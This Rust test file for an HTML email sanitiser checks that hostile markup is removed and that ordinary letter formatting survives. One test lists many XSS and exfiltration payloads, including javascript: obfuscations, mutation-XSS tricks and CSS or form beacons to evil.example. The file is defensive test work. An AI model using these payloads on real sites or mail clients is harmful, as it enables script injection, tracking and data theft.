//! HTML that tells on its reader, and HTML that must stay readable.

use super::*;

fn clean(html: &str) -> String {
    sanitise(html).unwrap()
}

/// All attributes of all tags in what was written, which is canonical.
fn attributes(clean: &str) -> Vec<(String, String, String)> {
    let mut found = Vec::new();
    let mut rest = clean;
    while let Some(at) = rest.find('<') {
        let tag = &rest[at..];
        let end = tag_end(tag);
        let inner = &tag[1..end - 1];
        let (name, mut inner) = inner.split_once(' ').unwrap_or((inner, ""));
        while let Some((attribute, after)) = inner.split_once("=\"") {
            let (value, after) = after.split_once('"').unwrap();
            let attribute = attribute.trim().to_owned();
            found.push((name.to_owned(), attribute, value.to_owned()));
            inner = after;
        }
        rest = &tag[end..];
    }
    found
}

/// Nothing that is fetched, run, submitted or styled, whatever came in.
fn assert_harmless(html: &str) -> String {
    let clean = clean(html);
    let mut rest = clean.as_str();
    while let Some(at) = rest.find('<') {
        let tag = &rest[at + 1..];
        let name: String = tag
            .trim_start_matches('/')
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric())
            .collect();
        assert!(
            TAGS.contains(&name.as_str()) && name != "img",
            "{html} -> {clean}"
        );
        rest = tag;
    }
    for (tag, attribute, value) in attributes(&clean) {
        let known = [
            "href", "rel", "target", "align", "dir", "lang", "colspan", "rowspan", "start", "class",
        ];
        assert!(known.contains(&attribute.as_str()), "{html} -> {clean}");
        if attribute == "href" {
            let scheme = value.split(':').next().unwrap().to_ascii_lowercase();
            assert!(
                ["http", "https", "mailto", "tel"].contains(&scheme.as_str()),
                "{clean}"
            );
        }
        if attribute == "class" {
            assert!(value.split(' ').all(|c| c.starts_with("ms-")), "{clean}");
        }
        if tag == "a" {
            assert!(clean.contains("rel=\"noopener noreferrer\""), "{clean}");
            assert!(clean.contains("target=\"_blank\""), "{clean}");
        }
    }
    clean
}

#[test]
fn what_runs_fetches_or_asks_is_gone() {
    for hostile in [
        "<script>alert(1)</script>",
        "<svg onload=alert(1)><script>alert(1)</script><a href='javascript:x'>t</a></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>t</a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=javascript:alert(1)>t</math>",
        "<base href=https://evil.example/><a href=x>t</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=//evil.example>",
        "<style>@import 'https://evil.example'; input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<div style=\"background:url(https://evil.example/x)\">t</div>",
        "<div style='background-image:url(\"javascript:alert(1)\")'>t</div>",
        "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>t</p>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<iframe src=https://evil.example></iframe>",
        "<object data=https://evil.example><embed src=https://evil.example></object>",
        "<form action=https://evil.example><input name=code><button formaction=//evil.example>t</button></form>",
        "<input type=image src=https://evil.example/x onerror=alert(1)>",
        "<textarea><script>alert(1)</script></textarea>",
        "<select><option>t</select>",
        "<img src=https://evil.example/pixel.gif>",
        "<img srcset='https://evil.example/x 2x' alt=t>",
        "<picture><source srcset=https://evil.example/x><img src=x></picture>",
        "<video poster=https://evil.example/x src=x autoplay><track src=x></video>",
        "<audio src=https://evil.example/x></audio>",
        "<table background=https://evil.example/x><tr><td background=//evil.example>t</table>",
        "<body background=https://evil.example/x onload=alert(1)>t",
        "<a href=javascript:alert(1)>t</a>",
        "<a href=' java\tscript:alert(1)'>t</a>",
        "<a href='&#106;avascript:alert(1)'>t</a>",
        "<a href='JaVaScRiPt:alert(1)'>t</a>",
        "<a href=data:text/html,<script>alert(1)</script>>t</a>",
        "<a href=vbscript:x>t</a>",
        "<a href=//evil.example>t</a>",
        "<a href=/p/0123>t</a>",
        "<a href='#x'>t</a>",
        "<a href=cid:part1>t</a>",
        "<a href=https://ok.example target=_top rel=opener ping=https://evil.example onclick=x>t</a>",
        "<a href=https://ok.example download=x name=y id=z>t</a>",
        "<div id=app class=\"admin\" name=app onclick=alert(1)>t</div>",
        "<div onpointerover=alert(1) style=color:red>t</div>",
        "<p title='\" onmouseover=alert(1) x=\"'>t</p>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">t</noscript>",
        "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->t",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml-stylesheet href='javascript:alert(1)'?>t",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<marquee onstart=alert(1)>t</marquee>",
        "<details ontoggle=alert(1) open>t</details>",
        "<dialog open>t</dialog>",
        "<img alt='<script>alert(1)</script>'>",
        "<img alt='x\" onerror=\"alert(1)'>",
        "<img alt='\"><script>alert(1)</script>'>",
        "<a href='https://x.example/<img alt=\"x'>t</a>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "\u{0}<script\u{0}>alert(1)</script>",
        "<a href=\"https://x.example/\" style=\"x:y\" style=\"font-weight:bold\">t</a>",
    ] {
        let clean = assert_harmless(hostile);
        // Read again it is the same, but for our own classes and the order
        // of attributes: no second parser sees more in it.
        let shape = |html: &str| {
            let mut found = attributes(html);
            found.retain(|(_, attribute, _)| attribute != "class");
            found.sort();
            (found, html.matches('<').count())
        };
        let again = assert_harmless(&clean);
        assert_eq!(shape(&again), shape(&clean), "{hostile}");
        assert!(!clean.contains("evil.example"), "{hostile} -> {clean}");
    }
}

#[test]
fn what_a_letter_needs_stays() {
    for (given, expected) in [
        (
            "<p>a <b>b</b> <i>c</i> &amp; d",
            "<p>a <b>b</b> <i>c</i> &amp; d</p>",
        ),
        (
            "<html><head><title>t</title></head><body bgcolor=red><h1 align=center>a</h1></body></html>",
            "<h1 align=\"center\">a</h1>",
        ),
        (
            "<table><tr><td colspan=2 rowspan=0 width=9>a</table>",
            "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table>",
        ),
        ("<ol start=3><li>a</ol>", "<ol start=\"3\"><li>a</li></ol>"),
        (
            "<div dir=rtl lang=ar>أ</div>",
            "<div dir=\"rtl\" lang=\"ar\">أ</div>",
        ),
        ("<font color=red>a</font>", "a"),
        (
            "<details ontoggle=x><summary>s</summary>a</details>",
            "<details><summary>s</summary>a</details>",
        ),
    ] {
        assert_eq!(clean(given), expected);
    }
    let link = clean("<a href=\"https://x.example/?a=1&b=2\">a</a>");
    let found = attributes(&link);
    let value = |name: &str| &found.iter().find(|a| a.1 == name).unwrap().2;
    assert_eq!(value("href"), "https://x.example/?a=1&amp;b=2");
    assert_eq!(
        (value("rel").as_str(), value("target").as_str()),
        ("noopener noreferrer", "_blank")
    );
    for href in ["mailto:a@b.example", "tel:+15550100", "http://x.example/"] {
        assert!(clean(&format!("<a href='{href}'>a</a>")).contains(href));
    }
}

#[test]
fn a_few_styles_become_classes() {
    for (style, class) in [
        ("font-weight:bold", " class=\"ms-b\""),
        ("FONT-WEIGHT : 700 !important", " class=\"ms-b\""),
        (
            "font-style: italic; text-decoration: underline",
            " class=\"ms-i ms-u\"",
        ),
        ("text-decoration: line-through red", " class=\"ms-s\""),
        ("text-align:right;text-align:right", " class=\"ms-right\""),
        ("border: 1px solid #ccc", " class=\"ms-cell\""),
        ("border: 0", ""),
        ("color:white;font-size:1px;display:none", ""),
        ("font-weight:400", ""),
        ("font-weight:expression(alert(1))", ""),
        ("", ""),
    ] {
        let cleaned = clean(&format!("<p style=\"{style}\">a</p>"));
        assert_eq!(cleaned, format!("<p{class}>a</p>"), "{style}");
    }
    // A class of one's own, or a text that looks like one, is none.
    assert_eq!(clean("<p class=ms-b>a</p>"), "<p>a</p>");
    assert_eq!(clean("<p>style=\"ms-b\"</p>"), "<p>style=\"ms-b\"</p>");
}

#[test]
fn images_become_their_text() {
    for (given, expected) in [
        (
            "a <img src=cid:logo alt=\"Harbor Clinic\"> b",
            "a <span class=\"ms-alt\">Harbor Clinic</span> b",
        ),
        ("<img src=https://x.example/p.gif width=1 height=1>a", "a"),
        ("<img alt=' '>a", "a"),
        (
            "<img alt='a < b & \"c\"' style='font-weight:bold'>",
            "<span class=\"ms-alt\">a &lt; b &amp; \"c\"</span>",
        ),
        (
            "<img style='text-align:left' alt='t > u'>d",
            "<span class=\"ms-alt\">t &gt; u</span>d",
        ),
        ("<image src=x alt=t>", "<span class=\"ms-alt\">t</span>"),
    ] {
        assert_eq!(clean(given), expected, "{given}");
    }
}

#[test]
fn what_is_too_much_is_not_shown() {
    let bold: String = (0..41).map(|i| format!("<b lang=a{i}>")).collect();
    for (much, less) in [
        ("<br>".repeat(10_001), "<br>".repeat(9_000)),
        ("&amp;".repeat(10_001), "&amp;".repeat(9_000)),
        ("a".repeat((1 << 20) + 1), "a".repeat(1 << 20)),
        ("<div>".repeat(251), "<div>".repeat(250)),
        (bold.clone(), bold.replace("<b lang=a40>", "")),
        (
            format!("<p {}>", "a ".repeat(2_001)),
            format!("<p {}>", "a ".repeat(1_999)),
        ),
        (
            format!("<p x='>' {}", "a ".repeat(2_001)),
            format!("<p>{}", "a ".repeat(90_000)),
        ),
        (
            format!("<p {}>", "a/".repeat(20_001)),
            format!("<p {}>", "a/".repeat(2_000)),
        ),
        ("<DIV ".repeat(251), "<div></div>".repeat(2_000)),
    ] {
        assert!(sanitise(&much).is_none(), "{much:.20}");
        assert!(sanitise(&less).is_some(), "{less:.20}");
    }
}
